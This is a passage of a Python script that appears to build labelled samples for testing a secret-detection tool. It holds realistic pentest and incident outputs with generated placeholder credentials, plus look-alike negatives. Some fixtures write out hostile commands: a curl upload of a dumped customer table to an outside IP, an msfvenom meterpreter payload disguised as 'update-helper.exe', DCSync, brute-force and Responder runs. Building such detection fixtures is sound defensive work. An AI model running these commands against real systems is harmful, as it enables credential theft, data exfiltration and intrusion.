Guest	501	{1}	31d6cfe0d16ae931b73c59d7e0c089c0""",
    nt(),
    LM_EMPTY,
)

add(
    "sec/mimikatz-wdigest-password",
    """Authentication Id : 0 ; 4421930 (00000000:0043792a)
Session           : RemoteInteractive from 2
User Name         : r.adeyemi
Domain            : CORP
Logon Server      : DC01
Logon Time        : 18/11/2025 09:14:02
SID               : S-1-5-21-3623811015-3361044348-30300820-1117
	msv :
	 [00000003] Primary
	 * Username : r.adeyemi
	 * Domain   : CORP
	 * NTLM     : (see ntds dump)
	wdigest :
	 * Username : r.adeyemi
	 * Domain   : CORP
	 * Password : {0}""",
    hpw(),
)

add(
    "sec/mimikatz-dcsync-ntlm",
    """mimikatz # lsadump::dcsync /domain:corp.local /user:svc_adconnect
[DC] 'corp.local' will be the domain
[DC] 'DC01.corp.local' will be the DC server
[DC] 'svc_adconnect' will be the user account

Object RDN           : svc_adconnect
SAM Username         : svc_adconnect
Account Type         : 30000000 ( USER_OBJECT )
User Account Control : 00010200 ( NORMAL_ACCOUNT DONT_EXPIRE_PASSWD )
Object Security ID   : S-1-5-21-3623811015-3361044348-30300820-1603

Credentials:
  Hash NTLM: {0}
    ntlm- 0: {0}
    lm  - 0: {1}""",
    nt(),
    r(32, HEX),
)

add(
    "sec/siem-elastic-net-user-add",
    """{
  "@timestamp": "2025-11-18T02:41:09.311Z",
  "kibana.alert.rule.name": "User Account Creation",
  "kibana.alert.severity": "medium",
  "host.name": "ws-0198",
  "user.name": "SYSTEM",
  "process.name": "net.exe",
  "process.command_line": "net user helpdesk_tmp {0} /add /domain",
  "process.parent.name": "cmd.exe",
  "event.id": "{1}"
}""",
    hpw(),
    uuid4(),
)

add(
    "sec/splunk-alert-psexec-p",
    r"""Splunk Alert: Remote Execution with Explicit Credentials
_time=2025-11-17 23:58:12  host=jump02  EventCode=4688
New_Process_Name=C:\Tools\PsExec64.exe
Process_Command_Line="PsExec64.exe \\fin-db01 -u CORP\svc_fin -p {0} -accepteula cmd /c ""sqlcmd -Q \"BACKUP DATABASE ledger TO DISK='\\nas01\bk\ledger.bak'\"""
Creator_Process_Name=C:\Windows\System32\cmd.exe""",
    hpw(),
)

add(
    "sec/siem-url-access-token",
    """ALERT  web-anomaly-0042  severity=low  rule="Token in URL query string"
src.ip=198.51.100.23  http.method=GET  http.status=200
url.original=/api/export/customers.csv?access_token={0}&from=2025-01-01
user_agent.original=python-requests/2.32.3""",
    r(40, URLSAFE),
)

add(
    "sec/ir-bash-history-mysql",
    """# collected from /root/.bash_history on web-03 (compromised host), lines 212-219
cd /var/www/shop
cat app/etc/env.php | grep -A4 "'db'"
mysql -u shop_rw -p{0} -h 10.30.1.12 shop -e "select count(*) from customer_entity"
mysqldump -u shop_rw -p{0} -h 10.30.1.12 shop customer_entity > /tmp/.c.sql
curl -T /tmp/.c.sql http://203.0.113.77:8000/
history -c""",
    hpw(),
)

add(
    "sec/ir-slack-svc-password",
    """#ir-2025-11-brute  |  Thu 18 Nov

nadia.o  10:02  confirmed: the attacker logged in with svc_printbridge, the password was in the shared runbook
nadia.o  10:03  current one is {0} — rotate it NOW please, and kill the runbook page
marc.l   10:05  on it, rotating in AD + the 3 MFPs that use it""",
    hpw(),
)
# ============================================================ SECRETS: reports and write-ups
add(
    "sec/bugbounty-js-bundle-key",
    """### Summary
The production bundle `https://app.acme-travel.test/static/js/main.4f1c2a.js` ships an
admin key for the partner API. It is still valid at the time of writing:

```js
const PARTNER_ADMIN_KEY = "{0}";
fetch(`${PARTNER_API}/v3/bookings`, { headers: { "X-Partner-Key": PARTNER_ADMIN_KEY } })
```

### Impact
Anyone can list and cancel every booking of every partner (PoC below returns 41k rows).""",
    "pak_live_" + r(32, LOWER_NUM),
)

add(
    "sec/vulnreport-exposed-git-config",
    """Finding 4 - Exposed .git directory (High)

$ curl -s https://cms.acme-news.test/.git/config
[core]
	repositoryformatversion = 0
	filemode = true
	bare = false
[remote "origin"]
	url = https://deploy-bot:{0}@git.acme-news.test/web/cms.git
	fetch = +refs/heads/*:refs/remotes/origin/*

The remote URL embeds a working access token for the internal Git server.""",
    r(20, URLSAFE),
)

add(
    "sec/bugbounty-es-panel-password",
    """## Informe: credenciales por defecto en el panel de administración

Durante la prueba encontré que el panel /gestion de tienda.acme.test acepta el usuario
`soporte` con la contraseña `{0}`, que aparece además en el PDF de onboarding público
(/docs/manual-instalacion-v2.pdf, página 7).

Impacto: acceso total a pedidos, clientes y reembolsos.
Severidad propuesta: Crítica (CVSS 9.1).""",
    hpw(ES_WORDS),
)

add(
    "sec/pentest-report-ru-credentials-table",
    """4.2 Полученные учётные данные

| Хост         | Сервис | Логин      | Пароль           | Способ получения         |
|--------------|--------|------------|------------------|--------------------------|
| 10.10.20.31  | MSSQL  | sa         | {0} | подбор по словарю        |
| 10.10.20.11  | SMB    | svc_backup | (NTLM-хеш)       | secretsdump с FS01       |

Рекомендация: сменить пароль sa, отключить вход sa по сети.""",
    hpw(RU_WORDS),
)

add(
    "sec/chat-ru-stand-creds",
    """[11:42] Павел: дай креды на стенд для ретеста
[11:43] Ирина: вход на 10.20.5.40 по ssh, логин pentest, пароль {0}
[11:43] Ирина: после ретеста скажи, я отключу учётку""",
    hpw(RU_WORDS),
)

_ru_pw = hpw(RU_WORDS) + r(4, DIGITS)
add_split(
    "sec/chat-ru-split-password",
    """[09:10] Дмитрий: пароль от vpn-учётки для пентеста пришлю в двух сообщениях
[09:10] Дмитрий: первая часть: {0}
[09:11] Дмитрий: вторая часть: {1}
[09:11] Дмитрий: склей без пробела""",
    _ru_pw[: len(_ru_pw) // 2],
    _ru_pw[len(_ru_pw) // 2 :],
)

add(
    "sec/chat-es-wifi-handover",
    """Oye, para mañana en la oficina del cliente: la red del laboratorio es LAB-PENTEST y la
clave WPA2 es {0}. La de invitados no tiene salida a la VLAN de servidores, no la uses.""",
    hpw(ES_WORDS),
)

add(
    "sec/nessus-policy-ssh-password",
    """<Preferences>
  <ServerPreferences>
    <preference><name>plugin_set</name><value>10180;10287;19506</value></preference>
  </ServerPreferences>
  <PluginsPreferences>
    <item>
      <pluginName>SSH settings</pluginName>
      <preferenceName>SSH password (unsafe!) :</preferenceName>
      <preferenceType>password</preferenceType>
      <selectedValue>{0}</selectedValue>
    </item>
  </PluginsPreferences>
</Preferences>""",
    hpw(),
)

# ============================================================ SECRETS: AD and Windows loot
add(
    "sec/ldapsearch-w",
    """ldapsearch -x -H ldap://10.10.20.5 -D "CN=svc_ldapread,OU=Service Accounts,DC=corp,DC=local" -w '{0}' -b "DC=corp,DC=local" "(servicePrincipalName=*)" sAMAccountName""",
    hpw(),
)

add(
    "sec/smbclient-user-percent",
    """$ smbclient //10.10.20.11/Finance -U 'corp.local/k.brandt%{0}' -c 'recurse ON; ls'
  .                                   D        0  Mon Nov 17 10:02:11 2025
  ..                                  D        0  Mon Nov 17 10:02:11 2025
  Q3-close.xlsx                       A   412880  Fri Oct 31 18:44:09 2025""",
    hpw(),
)

add(
    "sec/xfreerdp-p",
    """xfreerdp /v:10.10.20.40 /u:CORP\\\\m.lindqvist /p:'{0}' /cert:ignore /dynamic-resolution /drive:loot,/home/kali/loot""",
    hpw(),
)

add(
    "sec/gpp-cpassword",
    """$ cat '\\\\dc01\\SYSVOL\\corp.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\MACHINE\\Preferences\\Groups\\Groups.xml'
<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}"><User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="LocalAdm" image="2" changed="2019-04-02 08:31:12" uid="{A5E2C6B4-31C9-4E1D-8A5F-2B6C0D13E7F1}"><Properties action="U" newName="" fullName="" description="" cpassword="{0}" changeLogon="0" noChange="1" neverExpires="1" acctDisabled="0" userName="LocalAdm"/></User></Groups>""",
    b64(32).rstrip("="),
)

_unatt = base64.b64encode((hpw() + "AdministratorPassword").encode("utf-16-le")).decode()
add(
    "sec/unattend-xml-b64-password",
    """PS C:\\> type C:\\Windows\\Panther\\Unattend.xml | Select-String -Context 2 Password
      <AutoLogon>
        <Password>
          <Value>{0}</Value>
          <PlainText>false</PlainText>
        </Password>""",
    _unatt,
)

add(
    "sec/webconfig-lfi-connstr",
    """GET /download.aspx?file=..\\..\\web.config HTTP/1.1 -> 200, 2.1 KB

<connectionStrings>
  <add name="ErpDb" connectionString="Data Source=10.40.0.8,1433;Initial Catalog=ERP;User ID=erp_web;Password={0};Encrypt=False" providerName="System.Data.SqlClient" />
</connectionStrings>""",
    hpw(),
)

add(
    "sec/netexec-laps",
    """$ nxc ldap 10.10.20.5 -u svc_audit -p "$AUDIT_PW" -M laps
LAPS        10.10.20.5      389    DC01             [*] Getting LAPS Passwords
LAPS        10.10.20.5      389    DC01             Computer:WS-0142$ User:                Password:{0}
LAPS        10.10.20.5      389    DC01             Computer:WS-0198$ User:                Password:(no read access)""",
    r(14, ALNUM + "!#%+"),
)

add(
    "sec/openssl-pkcs12-passin",
    """openssl pkcs12 -in administrator.pfx -passin pass:{0} -nodes -out administrator.pem""",
    hpw(),
)

add(
    "sec/ssh-private-key-loot",
    """$ cat /mnt/fs01/Users/deploy/.ssh/id_ed25519
-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
{0}
{1}
{2}
-----END OPENSSH PRIVATE KEY-----""",
    r(70, ALNUM + "+/"),
    r(70, ALNUM + "+/"),
    r(44, ALNUM + "+/") + "==",
)

# ============================================================ SECRETS: cloud, C2, phishing, misc tooling
add(
    "sec/enumerate-iam-keys",
    """python3 enumerate-iam.py --access-key AKIA{1} --secret-key {0} --region eu-west-1""",
    r(40, ALNUM + "+/"),
    r(16, UPPER_NUM),
)

add(
    "sec/roadtx-refresh-token",
    """$ roadtx gettokens -u j.perez@acmecorp.onmicrosoft.com --device-code
Tokens were written to .roadtools_auth
$ jq -r .refreshToken .roadtools_auth
1.AQ4A{0}""",
    b64url(300),
)

add(
    "sec/evilginx-session-cookies",
    """: sessions 14

 id           : 14
 phishlet     : o365
 username     : c.moreau@acme-insure.test
 password     : {1}
 tokens       : captured
 landing url  : https://login.acme-portal.test/Mk2qR
 user-agent   : Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)
 remote ip    : 192.0.2.77
 create time  : 2025-11-18 08:51
 update time  : 2025-11-18 08:52

[{"path":"/","domain":"login.microsoftonline.com","expirationDate":1763460000,"value":"{0}","name":"ESTSAUTHPERSISTENT","httpOnly":true}]""",
    "0.AR" + b64url(220),
    hpw(),
)

add(
    "sec/gophish-initial-admin-password",
    """time="2025-11-18T07:30:02Z" level=info msg="Please login with the username admin and the password {0}"
time="2025-11-18T07:30:02Z" level=info msg="Starting phishing server at http://0.0.0.0:80"
time="2025-11-18T07:30:02Z" level=info msg="Starting admin server at https://127.0.0.1:3333\"""",
    r(16, HEX),
)

add(
    "sec/sliver-operator-config",
    """{
  "operator": "rt-lead",
  "lhost": "c2.ops-lab.test",
  "lport": 31337,
  "token": "{0}",
  "ca_certificate": "-----BEGIN CERTIFICATE-----\\nMIIB...(public CA cert)...\\n-----END CERTIFICATE-----\\n"
}""",
    r(64, HEX),
)

add(
    "sec/mythic-env-admin-password",
    """$ sudo ./mythic-cli config get MYTHIC_ADMIN_USER MYTHIC_ADMIN_PASSWORD
MYTHIC_ADMIN_USER      mythic_admin
MYTHIC_ADMIN_PASSWORD  {0}""",
    r(30, ALNUM),
)

add(
    "sec/bloodhound-ce-initial-password",
    """bloodhound-1  | {"level":"info","time":"2025-11-18T07:12:40.611Z","message":"Initial Password Set To:    {0}    #"}
bloodhound-1  | {"level":"info","time":"2025-11-18T07:12:40.612Z","message":"Server started successfully"}""",
    r(32, ALNUM),
)

add(
    "sec/bloodhound-neo4j-auth",
    """  graph-db:
    image: docker.io/library/neo4j:4.4
    environment:
      - NEO4J_AUTH=neo4j/{0}
      - NEO4J_dbms_allow__upgrade=true
    ports:
      - 127.0.0.1:7474:7474""",
    hpw(),
)

add(
    "sec/nuclei-interactsh-token",
    """nuclei -l live-hosts.txt -t http/cves/ -severity critical,high -iserver https://oast.ops-lab.test -itoken {0} -o nuclei-crit.txt""",
    r(32, HEX),
)

add(
    "sec/shodan-init",
    """$ pip install -q shodan && shodan init {0}
Successfully initialized""",
    r(32, ALNUM),
)

add(
    "sec/wpscan-api-token",
    """wpscan --url https://blog.acme-foods.test --enumerate vp,vt,u --plugins-detection aggressive --api-token {0}""",
    r(43, ALNUM),
)

add(
    "sec/chisel-auth",
    """# on the pivot host (WS-0142)
.\\chisel.exe client --auth rt:{0} --fingerprint 5u7w0y9hB2lCZz8p0qjW9Jq1oBqzg1sWbJ8m2kqE3d0= 10.8.0.14:8000 R:socks""",
    hpw(),
)

add(
    "sec/redis-cli-a-found",
    """$ redis-cli -h 10.30.1.20 -a '{0}' --no-auth-warning CONFIG GET dir
1) "dir"
2) "/var/lib/redis" """.rstrip(),
    hpw(),
)

add(
    "sec/jenkins-script-console-decrypt",
    """Script Console > Result

println(hudson.util.Secret.decrypt("{AQAAABAAAAAw2c7Fq0x9...}"))

Result: {0}""",
    "ghp_" + r(36, ALNUM),
)

# ============================================================ LOOK-ALIKES: Metasploit and brute forcers
la(
    """msf6 exploit(windows/smb/psexec) > options

Module options (exploit/windows/smb/psexec):

   Name                  Current Setting  Required  Description
   ----                  ---------------  --------  -----------
   SERVICE_DESCRIPTION                    no        Service description to be used on target for pretty listing
   SERVICE_DISPLAY_NAME                   no        The service display name
   SMBDomain             .                no        The Windows domain to use for authentication
   SMBPass                                no        The password for the specified username
   SMBUser                                no        The username to authenticate as
   RHOSTS                                 yes       The target host(s), see https://docs.metasploit.com/docs/using-metasploit/basics/using-metasploit.html
   RPORT                 445              yes       The SMB service port (TCP)"""
)

la(
    """msf6 > use exploit/multi/handler
[*] Using configured payload generic/shell_reverse_tcp
msf6 exploit(multi/handler) > set PAYLOAD windows/x64/meterpreter/reverse_https
PAYLOAD => windows/x64/meterpreter/reverse_https
msf6 exploit(multi/handler) > set LHOST tun0
LHOST => 10.8.0.14
msf6 exploit(multi/handler) > set LPORT 8443
LPORT => 8443
msf6 exploit(multi/handler) > set ExitOnSession false
ExitOnSession => false
msf6 exploit(multi/handler) > run -j
[*] Exploit running as background job 0."""
)

la(
    """msf6 > creds
Credentials
===========

host  origin  service  public  private  realm  private_type  JtR Format  cracked_password
----  ------  -------  ------  -------  -----  ------------  ----------  ----------------

msf6 > loot
Loot
====

host  service  type  name  content  info  path
----  -------  ----  ----  -------  ----  ----"""
)

la(
    """$ msfvenom -p windows/x64/meterpreter/reverse_https LHOST=10.8.0.14 LPORT=8443 -f exe -o update-helper.exe
[-] No platform was selected, choosing Msf::Module::Platform::Windows from the payload
[-] No arch selected, selecting arch: x64 from the payload
No encoder specified, outputting raw payload
Payload size: 817 bytes
Final size of exe file: 7680 bytes
Saved as: update-helper.exe
$ sha256sum update-helper.exe
{0}  update-helper.exe""",
    h64(),
)

la(
    """Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak

Syntax: hydra [[[-l LOGIN|-L FILE] [-p PASS|-P FILE]] | [-C FILE]] [-e nsr] [-o FILE] [-t TASKS] [-M FILE [-T TASKS]] [-w TIME] [-W TIME] [-f] [-s PORT] [-x MIN:MAX:CHARSET] [-c TIME] [-ISOuvVd46] [-m MODULE_OPT] [service://server[:PORT][/OPT]]

Options:
  -l LOGIN or -L FILE  login with LOGIN name, or load several logins from FILE
  -p PASS  or -P FILE  try password PASS, or load several passwords from FILE
  -C FILE   colon separated "login:pass" format, instead of -L/-P options
  -e nsr    try "n" null password, "s" login as pass and/or "r" reversed login"""
)

la(
    """kali@kali:~/acme$ hydra -L users.txt -P /usr/share/wordlists/rockyou.txt -t 16 -f ftp://192.168.56.101
[DATA] max 16 tasks per 1 server, overall 16 tasks, 229505872 login tries (l:16/p:14344399), ~14344117 tries per task
[DATA] attacking ftp://192.168.56.101:21/
[STATUS] 1104.00 tries/min, 1104 tries in 00:01h, 229504768 to do in 3464:41h, 16 active
^C The session file ./hydra.restore was written. Type "hydra -R" to resume session."""
)

la(
    """Medusa v2.2 [http://www.foofus.net] (C) JoMo-Kun / Foofus Networks <jmk@foofus.net>

Syntax: Medusa [-h host|-H file] [-u username|-U file] [-p password|-P file] [-C file] -M module [OPT]
  -p [TEXT]    : Password to test
  -P [FILE]    : File containing passwords to test
  -e [n/s/ns]  : Additional password checks ([n] No Password, [s] Password = Username)
  -M [TEXT]    : Name of the module to execute (without the .mod extension)"""
)

la(
    """2025/11/18 13:55:02 >  Using KDC(s):
2025/11/18 13:55:02 >  	dc01.corp.local:88
2025/11/18 13:55:03 >  [+] VALID USERNAME:	 l.petrova@corp.local
2025/11/18 13:55:03 >  [+] VALID USERNAME:	 svc_sql@corp.local
2025/11/18 13:55:04 >  [+] VALID USERNAME:	 administrator@corp.local
2025/11/18 13:55:09 >  Done! Tested 8295 usernames (3 valid) in 6.811 seconds"""
)

la(
    """PORT     STATE SERVICE VERSION
22/tcp   open  ssh     OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   256 {0} (ECDSA)
|_  256 {1} (ED25519)
80/tcp   open  http    nginx 1.24.0 (Ubuntu)
|_http-title: Acme Intranet - Sign in
3306/tcp open  mysql   MySQL 8.0.39-0ubuntu0.24.04.2
| mysql-brute:
|   Accounts: No valid accounts found
|_  Statistics: Performed 50009 guesses in 61 seconds, average tps: 819.8""",
    ":".join(r(2, HEX) for _ in range(16)),
    ":".join(r(2, HEX) for _ in range(16)),
)

# ============================================================ LOOK-ALIKES: netexec / impacket / AD
la(
    r"""$ nxc smb 10.10.20.0/24
SMB         10.10.20.5      445    DC01             [*] Windows Server 2022 Build 20348 x64 (name:DC01) (domain:corp.local) (signing:True) (SMBv1:False)
SMB         10.10.20.11     445    FS01             [*] Windows Server 2019 Build 17763 x64 (name:FS01) (domain:corp.local) (signing:False) (SMBv1:False)
SMB         10.10.20.31     445    SQL01            [*] Windows Server 2019 Build 17763 x64 (name:SQL01) (domain:corp.local) (signing:False) (SMBv1:True)
Running nxc against 256 targets ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━ 100% 0:00:00"""
)

la(
    r"""$ nxc smb 10.10.20.5 -u "$NXC_USER" -p "$NXC_PASS" --pass-pol
SMB         10.10.20.5      445    DC01             [+] Dumping password info for domain: CORP
SMB         10.10.20.5      445    DC01             Minimum password length: 7
SMB         10.10.20.5      445    DC01             Password history length: 24
SMB         10.10.20.5      445    DC01             Maximum password age: 41 days 23 hours 53 minutes
SMB         10.10.20.5      445    DC01             Account Lockout Threshold: 5
SMB         10.10.20.5      445    DC01             Locked Account Duration: 30 minutes"""
)

la(
    """usage: secretsdump.py [-h] [-ts] [-debug] [-system SYSTEM] [-bootkey BOOTKEY] [-security SECURITY] [-sam SAM] [-ntds NTDS]
                      [-just-dc] [-just-dc-ntlm] [-pwd-last-set] [-user-status] [-history]
                      [-hashes LMHASH:NTHASH] [-no-pass] [-k] [-aesKey hex key] [-dc-ip ip address]
                      target

authentication:
  -hashes LMHASH:NTHASH
                        NTLM hashes, format is LMHASH:NTHASH
  -no-pass              don't ask for password (useful for -k)
  -aesKey hex key       AES key to use for Kerberos Authentication (128 or 256 bits)"""
)

la(
    """Report appendix C (sanitised). Hashes are withheld; only the account list and status are kept.

Administrator:500:{0}:[withheld]:::
Guest:501:{0}:[withheld]:::  (disabled)
svc_backup:1109:{0}:[withheld]:::  (cracked in 4 min, see finding 7)

Note: {0} is the constant LM value Windows stores when no LM hash exists; it reveals nothing.""",
    LM_EMPTY,
)

la(
    r"""PS C:\Temp> .\Rubeus.exe

   ______        _
  (_____ \      | |
   _____) )_   _| |__  _____ _   _  ___
  |  __  /| | | |  _ \| ___ | | | |/___)
  | |  \ \| |_| | |_) ) ____| |_| |___ |
  |_|   |_|____/|____/|_____)____/(___/

  v2.3.2

 Ticket requests and renewals:

    Retrieve a TGT based on a user password/hash, optionally saving to a file or applying to the current logon session or a specific LUID:
        Rubeus.exe asktgt /user:USER </password:PASSWORD [/enctype:DES|RC4|AES128|AES256] | /des:HASH | /rc4:HASH | /aes128:HASH | /aes256:HASH> [/domain:DOMAIN] [/dc:DOMAIN_CONTROLLER] [/outfile:FILENAME] [/ptt] [/luid]"""
)

la(
    r"""PS C:\Users\jmorales> klist

Current LogonId is 0:0x43792a

Cached Tickets: (2)

#0>     Client: jmorales @ CORP.LOCAL
        Server: krbtgt/CORP.LOCAL @ CORP.LOCAL
        KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96
        Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent name_canonicalize
        Start Time: 11/18/2025 9:14:02 (local)
        End Time:   11/18/2025 19:14:02 (local)
        Session Key Type: AES-256-CTS-HMAC-SHA1-96"""
)

la(
    """Certipy v4.8.2 - by Oliver Lyak (ly4k)

Certificate Templates
  0
    Template Name                       : AcmeUserAuth
    Display Name                        : Acme User Authentication
    Certificate Authorities             : corp-CA01-CA
    Enabled                             : True
    Client Authentication               : True
    Enrollee Supplies Subject           : True
    Requires Manager Approval           : False
    [!] Vulnerabilities
      ESC1                              : 'CORP.LOCAL\\Domain Users' can enroll, enrollee supplies subject and template allows client authentication"""
)

la(
    """MATCH p=shortestPath((u:User {enabled:true})-[*1..]->(g:Group))
WHERE g.objectid ENDS WITH '-512' AND u.hasspn = true
RETURN p LIMIT 25"""
)

la(
    """$ evil-winrm --help

Evil-WinRM shell v3.5

Usage: evil-winrm -i IP -u USER [-s SCRIPTS_PATH] [-e EXES_PATH] [-P PORT] [-p PASS] [-H HASH] [-U URL] [-S] [-c PUBLIC_KEY_PATH ] [-k PRIVATE_KEY_PATH ] [-r REALM] [--spn SPN_PREFIX] [-l]
    -S, --ssl                        Enable ssl
    -c, --pub-key PUBLIC_KEY_PATH    Local path to public key certificate
    -H, --hash HASH                  NTHash
    -p, --password PASS              Password"""
)

la(
    r"""mimikatz # sekurlsa::logonpasswords   (export trimmed by the reporting script: credential fields removed)

Authentication Id : 0 ; 996 (00000000:000003e4)
Session           : Service from 0
User Name         : WS-0142$
Domain            : CORP
Logon Server      : (null)
Logon Time        : 18/11/2025 08:01:44
SID               : S-1-5-20
	msv :
	 * NTLM     : ********************************
	wdigest :
	 * Password : (null)
	kerberos :
	 * Password : (null)"""
)

la(
    """Event 4625, Microsoft-Windows-Security-Auditing
An account failed to log on.
Subject: Security ID: NULL SID   Account Name: -   Logon ID: 0x0
Logon Type: 3
Account For Which Logon Failed: Account Name: svc_sql   Account Domain: CORP
Failure Information: Failure Reason: Unknown user name or bad password.  Status: 0xC000006D  Sub Status: 0xC000006A
Network Information: Workstation Name: KALI   Source Network Address: 10.10.14.3   Source Port: 0
Authentication Package: NTLM   Package Name (NTLM only): NTLM V2   Key Length: 0"""
)

la(
    r"""[*] [NBT-NS] Poisoned answer sent to 10.10.20.77 for name FILESERV (service: File Server)
[*] [LLMNR]  Poisoned answer sent to 10.10.20.77 for name fileserv
[*] Skipping previously captured hash for CORP\a.kowalski
[*] [MDNS] Poisoned answer sent to 10.10.20.81     for name printer-3f.local"""
)

la(
    """[Responder Core]

; Servers to start
SQL = On
SMB = On
RDP = On
Kerberos = On
FTP = On
HTTP = On
HTTPS = On

; Custom challenge.
; Use "Random" for generating a random challenge for each requests (Default)
Challenge = Random

; SQLite Database file
Database = Responder.db"""
)

la(
    """A NetNTLMv2 line as Responder logs it and hashcat mode 5600 reads it has six colon-separated
fields: USER::DOMAIN:SERVER_CHALLENGE:NTPROOFSTR:BLOB. The server challenge is 8 bytes
(16 hex chars), NTProofStr is 16 bytes (32 hex chars) and the blob starts with 0101000000000000.
Always paste these into tickets as USER::DOMAIN:<challenge>:<ntproofstr>:<blob>, never the real line."""
)

la(
    """Формат NetNTLMv2 для hashcat (режим 5600): ПОЛЬЗОВАТЕЛЬ::ДОМЕН:<challenge>:<NTProofStr>:<blob>.
Challenge — 8 байт (16 hex-символов), NTProofStr — 16 байт. NTLM-хеш (режим 1000) — это MD4
от пароля в UTF-16LE, 32 hex-символа. В отчёт реальные хеши не вставляем, только количество
и время взлома."""
)

# ============================================================ LOOK-ALIKES: cracking
la(
    """- [ Hash modes ] -

      # | Name                                                | Category
  ======+=====================================================+======================================
    900 | MD4                                                 | Raw Hash
      0 | MD5                                                 | Raw Hash
   1000 | NTLM                                                | Operating System
   5500 | NetNTLMv1 / NetNTLMv1+ESS                           | Network Protocol
   5600 | NetNTLMv2                                           | Network Protocol
  13100 | Kerberos 5, etype 23, TGS-REP                       | Network Protocol
  18200 | Kerberos 5, etype 23, AS-REP                        | Network Protocol
  22000 | WPA-PBKDF2-PMKID+EAPOL                              | Network Protocol"""
)

la(
    """Session..........: acme-ntds
Status...........: Running
Hash.Mode........: 1000 (NTLM)
Hash.Target......: ntds.nt
Time.Started.....: Tue Nov 18 15:02:10 2025 (12 mins, 4 secs)
Time.Estimated...: Tue Nov 18 17:40:51 2025 (2 hours, 26 mins)
Kernel.Feature...: Pure Kernel
Guess.Base.......: File (/home/kali/wordlists/rockyou.txt)
Guess.Mod........: Rules (rules/OneRuleToRuleThemAll.rule)
Speed.#1.........: 41852.3 MH/s (52.41ms) @ Accel:512 Loops:128 Thr:64 Vec:1
Recovered........: 0/2119 (0.00%) Digests (total), 0/2119 (0.00%) Digests (new)
Progress.........: 30314921984/718377562112 (4.22%)
Rejected.........: 0/30314921984 (0.00%)"""
)

la(
    """From the hashcat wiki's example_hashes page (public documentation test vectors, not from
this engagement): mode 1000 NTLM example is b4b9b02e6f09a9bd760f388b67351e2b and mode 0
MD5 example is 8743b52063cd84097a65d1633f5c74f5. Use them only to check the rig works:
hashcat -m 1000 b4b9b02e6f09a9bd760f388b67351e2b -a 3 ?l?l?l?l?l?l?l"""
)

la(
    """$ john --format=NT hashes/fs01.pwdump --wordlist=rockyou.txt
Using default input encoding: UTF-8
Loaded 14 password hashes with no different salts (NT [MD4 256/256 AVX2 8x3])
Warning: no OpenMP support for this hash type, consider --fork=8
Press 'q' or Ctrl-C to abort, almost any other key for status
0g 0:00:00:05 DONE (2025-11-18 15:20) 0g/s 2806Kp/s 2806Kc/s 39284KC/s
Session completed."""
)

la(
    """# best64.rule (excerpt)
:
r
u
T0
$0
$1
$2
$1 $2 $3
c $1
^1 ^2 ^3
sa@ so0 se3"""
)

la(
    """$ wc -l /usr/share/wordlists/rockyou.txt && sha256sum /usr/share/wordlists/rockyou.txt
14344392 /usr/share/wordlists/rockyou.txt
{0}  /usr/share/wordlists/rockyou.txt""",
    h64(),
)

la(
    """                               Aircrack-ng 1.7

      [00:47:12] 14344392/14344392 keys tested (5066.81 k/s)

      Time left: --

                          KEY NOT FOUND

      Master Key     : -- -- -- --
      BSSID          : {0}  ESSID: AcmeGuest-5G""",
    ":".join(r(2, UPPER_HEX) for _ in range(6)),
)

la(
    """$ hcxpcapngtool -o acme-guest.hc22000 capture-01.pcapng
summary capture file
--------------------
file name................................: capture-01.pcapng
version (pcapng).........................: 1.0
timestamp minimum (GMT)..................: 18.11.2025 08:02:44
EAPOL pairs written to 22000 hash file...: 2 (RC:0, M1M2)
PMKID written to 22000 hash file.........: 1
ESSID (total unique).....................: 3"""
)

la(
    """Kerberoasting finding (H-03). 4 service accounts with SPNs use RC4 (etype 23). The
$krb5tgs$23$*user$realm$spn*$<checksum>$<edata> hashes were cracked offline for 2 of them
within 1 hour; values are kept in the engagement vault only (item RT-ACME-0412).
Recommendation: gMSA for svc_mssql and svc_web, AES-only (msDS-SupportedEncryptionTypes=24)."""
)

# ============================================================ LOOK-ALIKES: sqlmap / Burp / ZAP
la(
    """Database: legacy_crm
Table: users
[5 columns]
+---------------+--------------+
| Column        | Type         |
+---------------+--------------+
| email         | varchar(191) |
| id            | int          |
| password      | varchar(255) |
| role          | varchar(32)  |
| last_login_at | datetime     |
+---------------+--------------+"""
)

la(
    """Database: shop
Table: products
[3 entries]
+------+-----------------------------+--------+--------------------------------------+
| id   | sku                         | price  | image_hash                           |
+------+-----------------------------+--------+--------------------------------------+
| 1041 | ACM-TSHIRT-BLK-M            | 19.90  | {0}     |
| 1042 | ACM-MUG-WHT                 | 9.50   | {1}     |
| 1043 | ACM-STICKER-PACK            | 4.00   | {2}     |
+------+-----------------------------+--------+--------------------------------------+""",
    r(32, HEX),
    r(32, HEX),
    r(32, HEX),
)

la(
    """sqlmap identified the following injection point(s) with a total of 61 HTTP(s) requests:
---
Parameter: id (GET)
    Type: boolean-based blind
    Title: AND boolean-based blind - WHERE or HAVING clause
    Payload: id=1042 AND 4821=4821

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: id=1042 AND (SELECT 7710 FROM (SELECT(SLEEP(5)))qXkz)
---
[15:31:09] [INFO] the back-end DBMS is MySQL"""
)

la(
    """POST /api/v1/users/2291/role HTTP/2
Host: portal.acme-health.test
Cookie: __Host-portal_session=<REDACTED>; consent=1
Authorization: Bearer ${PORTAL_TEST_TOKEN}
Content-Type: application/json

{"role":"clinician"}

(The session cookie belonged to the throwaway tester account and was invalidated at logout.)"""
)

la(
    """Alert: Cookie No HttpOnly Flag
Risk: Low  Confidence: Medium
URL: https://inventory.acme.test/login
Parameter: inv_pref
Evidence: Set-Cookie: inv_pref
CWE Id: 1004   WASC Id: 13   Plugin Id: 10010
Solution: Ensure that the HttpOnly flag is set for all cookies."""
)

la(
    """<context>
  <name>inventory-authenticated</name>
  <incregexes>https://inventory.acme.test.*</incregexes>
